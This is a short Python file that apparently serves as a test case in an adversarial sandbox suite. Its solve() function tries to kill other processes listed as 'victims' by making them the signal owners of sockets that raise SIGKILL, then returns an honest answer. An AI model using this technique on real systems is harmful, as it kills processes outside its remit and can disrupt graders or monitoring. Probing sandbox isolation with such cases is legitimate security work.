"""Kills a stranger by the way of files: a pipe that is to signal its owner, and a stranger made its owner."""
# expect: ok|crash
# score: 0.1
import contextlib
import fcntl
import os
import signal
import socket
import struct

import arms

F_SETOWN_EX, F_SETSIG, FIOSETOWN, SIOCSPGRP = 15, 10, 0x8901, 0x8902


def solve(x, look):
    for pid in arms.victims():
        for owner in ("own", "own_ex", FIOSETOWN, SIOCSPGRP):
            ours, theirs = socket.socketpair()
            with contextlib.suppress(OSError):
                fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
                if owner == "own":
                    fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
                elif owner == "own_ex":
                    fcntl.fcntl(ours, F_SETOWN_EX, struct.pack("ii", 1, pid))
                else:
                    fcntl.ioctl(ours, owner, struct.pack("i", pid))
                fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                theirs.send(b"now")
            ours.close()
            theirs.close()
    return arms.honest(x)
